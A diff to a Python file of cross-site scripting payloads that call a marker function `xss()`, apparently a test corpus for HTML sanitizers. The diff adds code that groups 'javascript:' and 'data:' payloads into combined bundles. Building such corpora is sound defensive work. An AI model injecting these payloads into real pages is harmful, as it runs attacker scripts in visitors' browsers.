@@ -1,4 +1,4 @@
-"""Sixty ways to smuggle a script into a page: each calls `xss()` if it runs."""
+"""Sixty ways to smuggle a script into a page, each calling `xss()` if it runs, and five bundles of them."""
 
 PAYLOADS = (
     "<script>xss()</script>",
@@ -62,3 +62,8 @@ PAYLOADS = (
     "&lt;script&gt;xss()&lt;/script&gt;",
     "\u2028\u2029</p><marquee onstart=xss()>\u202e",
 )
+
+ADDRESSES = tuple(each for each in PAYLOADS if each.strip().lower().startswith(("java", "data:")))
+OTHERS = tuple(each for each in PAYLOADS if each not in ADDRESSES)
+# Joined, payloads are as sharp as alone: what one does not break out of is left to the next, and an address begins.
+BUNDLES = tuple((address, *OTHERS[number :: len(ADDRESSES)]) for number, address in enumerate(ADDRESSES))
